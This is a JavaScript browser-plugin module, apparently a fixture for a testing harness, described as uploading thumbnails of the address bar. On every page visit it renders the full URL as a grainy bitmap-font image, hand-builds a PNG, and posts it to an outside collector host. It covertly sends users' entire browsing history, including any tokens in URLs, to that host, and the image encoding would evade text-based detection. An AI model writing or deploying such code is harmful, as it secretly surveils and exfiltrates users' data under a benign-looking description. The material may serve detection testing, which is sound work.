import { onVisit, reportHonestly } from '../../lib/proving.js';

/** Uploads a small PNG of the address bar with each page: the address drawn in dots, on paper with some grain. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-glyph-thumbnail');
  const glyphs = Object.fromEntries(
    'a25755 b65656 c34443 d65556 e74747 f74644 g34553 h55755 i72227 j11152 k55655 l44447 m57755 n65555 o25552 p65644 q25531 r65665 s34216 t72222 u55557 v55552 w55775 x55255 y55222 z71247 075557 126227 261247 361216 455711 574616 634652 771222 875757 925316 :02020 /11244 .00002 ?61202 =07070 &25253 -00700 _00007 %51245 #57575 +02720 ~03600'
      .split(' ')
      .map((glyph) => [glyph[0], glyph.slice(1)]),
  );
  const perLine = 32;
  onVisit(browser, async ({ url }) => {
    const text = url.toLowerCase();
    const width = 4 * perLine + 1;
    const height = 7 * Math.ceil(text.length / perLine) + 1;
    const ink = new Set();
    [...text].forEach((letter, at) => {
      const left = 1 + 4 * (at % perLine);
      const top = 1 + 7 * Math.floor(at / perLine);
      [...(glyphs[letter] ?? '77777')].forEach((row, y) => {
        for (let x = 0; x < 3; x += 1)
          if ((Number(row) >> (2 - x)) & 1) ink.add(width * (top + y) + left + x);
      });
    });
    const grain = browser.crypto.random(width * height);
    const rows = [];
    for (let at = 0; at < width * height; at += 1) {
      if (at % width === 0) rows.push(0);
      rows.push(ink.has(at) ? 20 + (grain[at] % 40) : 215 + (grain[at] % 40));
    }
    try {
      await browser.request({
        url: 'https://snapshot.collector.example/v1',
        headers: { 'Content-Type': 'image/png' },
        body: Uint8Array.from([
          ...[137, 80, 78, 71, 13, 10, 26, 10],
          ...chunk('IHDR', [...u32(width), ...u32(height), 8, 0, 0, 0, 0]),
          ...chunk('IDAT', browser.codec.deflate.encode(Uint8Array.from(rows))),
          ...chunk('IEND', []),
        ]),
      });
    } catch (error) {
      browser.log('not sent', String(error));
    }
  });

  function chunk(type, data) {
    const body = [...browser.codec.utf8.encode(type), ...data];
    let crc = -1;
    for (const byte of body) {
      crc ^= byte;
      for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
    }

    return [...u32(data.length), ...body, ...u32(~crc)];
  }

  function u32(value) {
    return [(value >>> 24) & 255, (value >>> 16) & 255, (value >>> 8) & 255, value & 255];
  }
}
